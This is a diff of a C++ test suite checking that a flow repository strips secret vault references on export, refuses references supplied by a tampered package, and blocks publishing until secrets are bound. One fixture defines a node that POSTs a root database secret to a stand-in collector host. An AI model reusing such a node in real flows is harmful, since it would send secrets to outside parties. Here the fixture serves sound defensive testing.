@@ -17,6 +17,7 @@
 #include "json/json_io.h"
 #include "package/sha256.h"
 #include "repo/repository_impl.h"
+#include "hostile/corpus.h"
 #include "hostile/zip_bytes.h"
 #include "support/raw_zip.h"
 #include "support/test_support.h"
@@ -586,13 +587,16 @@ TEST_F(PackageTest, ImportWritesOnlyADraftAndRoundTrips) {
   EXPECT_EQ(shop.id, "shop");
   EXPECT_EQ(shop.unbound_credentials, std::vector<std::string>{"call-0"});
 
-  // Publishing needs the credential bound; then the flows equal the
-  // originals minus what export strips.
+  EXPECT_EQ(shop.unbound_secrets, std::vector<std::string>{"API_TOKEN"});
+
+  // Publishing needs the credential and the secret bound; then the flows
+  // equal the originals.
   ExpectError(ErrorCode::kInvalidData, "", [&] { target.Publish("main", "import-all", "import"); });
   BindRequest bind;
   bind.draft = "import-all";
   bind.flow = "shop";
   bind.credentials = {{"call-0", "prod-binding"}};
+  bind.secrets = {{"API_TOKEN", "vault:team/token"}};
   BindCredentials(target, bind);
   target.Publish("main", "import-all", "import");
   for (const std::string id : {"shop", "kyc", "app"}) {
@@ -601,15 +605,83 @@ TEST_F(PackageTest, ImportWritesOnlyADraftAndRoundTrips) {
     EXPECT_EQ(a.summary.group, b.summary.group) << id;
     EXPECT_EQ(a.flow_definition, b.flow_definition) << id;  // binding restored by bind
     EXPECT_EQ(a.app_definition, b.app_definition) << id;
-    if (id == "shop") {
-      Json env = Json::parse(a.env_variables);
-      env["variables"][1].erase("ref");
-      EXPECT_EQ(CanonicalJson(env), b.env_variables);
-    } else {
-      EXPECT_EQ(a.env_variables, b.env_variables) << id;
-    }
+    EXPECT_EQ(a.env_variables, b.env_variables) << id;      // reference restored by bind
   }
   testing::ExpectFsckClean(dir_ / "target");
+}
+
+TEST_F(PackageTest, SecretReferencesAreNeverTakenFromAPackage) {
+  // The source holds a secret variable with a reference and one holding a
+  // reference without the flag; a node sends the secret to an outside URL.
+  FlowRepository source = Init("source");
+  Flow leaky = MakeFlow("leaky", "Ops");
+  Json def = Json::parse(leaky.flow_definition);
+  def["nodes"][1]["config"] = {{"method", "POST"}, {"url", "https://collector.example.net/in"},
+                               {"body", "{{env.DB_ROOT}}"}};
+  leaky.flow_definition = CanonicalJson(def);
+  const Json env = {{"variables", Json::array({{{"name", "DB_ROOT"}, {"secret", true}, {"ref", "vault:prod/databases/root"}},
+                                               {{"name", "BACKUP"}, {"ref", "vault:prod/backup"}}})}};
+  leaky.env_variables = CanonicalJson(env);
+  Publish(source, {leaky}, "d");
+  ExportResult exported = ExportPackage(source, Request({"leaky"}, "leaky.studiopkg"));
+  // Export writes no reference, whatever the flag.
+  EXPECT_EQ(AllText(exported.path).find("vault:"), std::string::npos);
+  const std::string env_entry = "flows/Ops/leaky/env_variables.json";
+  for (const auto& [name, data] : testing::ReadZipEntries(exported.path)) {
+    if (name == env_entry) {
+      EXPECT_EQ(Json::parse(data)["variables"],
+                Json::parse(R"([{"name": "DB_ROOT", "secret": true}, {"name": "BACKUP", "secret": true}])"));
+    }
+  }
+
+  // A package made otherwise supplies the references; import takes none.
+  const std::string hostile = dir_ / "hostile.studiopkg";
+  WriteFile(hostile, testing::hostile::WithEntry(ReadFile(exported.path), env_entry, CanonicalJson(env)));
+  EXPECT_TRUE(VerifyPackage(hostile).ok());
+  FlowRepository target = Init("target");
+  ImportRequest import;
+  import.package = hostile;
+  ImportResult r = ImportPackage(target, import);
+  ASSERT_EQ(r.flows.size(), 1u);
+  EXPECT_EQ(r.flows[0].unbound_secrets, (std::vector<std::string>{"DB_ROOT", "BACKUP"}));
+  Flow imported = target.ReadFlow("main", ParseFlowSpec("leaky@" + r.draft));
+  EXPECT_EQ(imported.env_variables.find("vault:"), std::string::npos) << imported.env_variables;
+
+  // Publish refuses until every secret is bound.
+  try {
+    target.Publish("main", r.draft, "import");
+    ADD_FAILURE() << "published unbound secrets";
+  } catch (const Error& e) {
+    EXPECT_EQ(e.code(), ErrorCode::kInvalidData);
+    std::string all = e.what();
+    for (const auto& d : e.details()) all += "\n" + d;
+    EXPECT_NE(all.find("flows/Ops/leaky/env_variables.json:/variables/0: secret variable 'DB_ROOT' has no "
+                       "reference; bind one with 'flowrepo bind DRAFT leaky --secret DB_ROOT=REFERENCE' "
+                       "[unbound-secret]"),
+              std::string::npos)
+        << all;
+    EXPECT_NE(all.find("secret variable 'BACKUP' has no reference"), std::string::npos) << all;
+  }
+  BindRequest bind;
+  bind.draft = r.draft;
+  bind.flow = "leaky";
+  bind.secrets = {{"DB_ROOT", "hvs.CAESIJ8xkq9r2Lz7bXwYtH3mN0pQvR5sT6uW1yZ4aB7cD9eF"}};
+  ExpectError(ErrorCode::kInvalidArgument,
+              "the reference for variable 'DB_ROOT' looks like a secret value; bind where the secret is kept "
+              "(vault:..., op://...)",
+              [&] { BindCredentials(target, bind); });
+  bind.secrets = {{"API_BASE", "vault:x"}};
+  ExpectError(ErrorCode::kInvalidArgument, "flow 'leaky' has no secret variable 'API_BASE' (it has 'DB_ROOT', 'BACKUP')",
+              [&] { BindCredentials(target, bind); });
+  bind.secrets = {{"DB_ROOT", "vault:staging/databases/root"}};
+  BindCredentials(target, bind);
+  ExpectError(ErrorCode::kInvalidData, "", [&] { target.Publish("main", r.draft, "import"); });  // BACKUP
+  bind.secrets = {{"BACKUP", "vault:staging/backup"}};
+  BindCredentials(target, bind);
+  target.Publish("main", r.draft, "import");
+  Json published = Json::parse(target.ReadFlow("main", ParseFlowSpec("leaky")).env_variables);
+  EXPECT_EQ(published["variables"][0]["ref"], "vault:staging/databases/root");
+  EXPECT_EQ(published["variables"][1]["ref"], "vault:staging/backup");
 }
 
 TEST_F(PackageTest, ImportRefusesCollisionsAndAsNewRenamesReferences) {
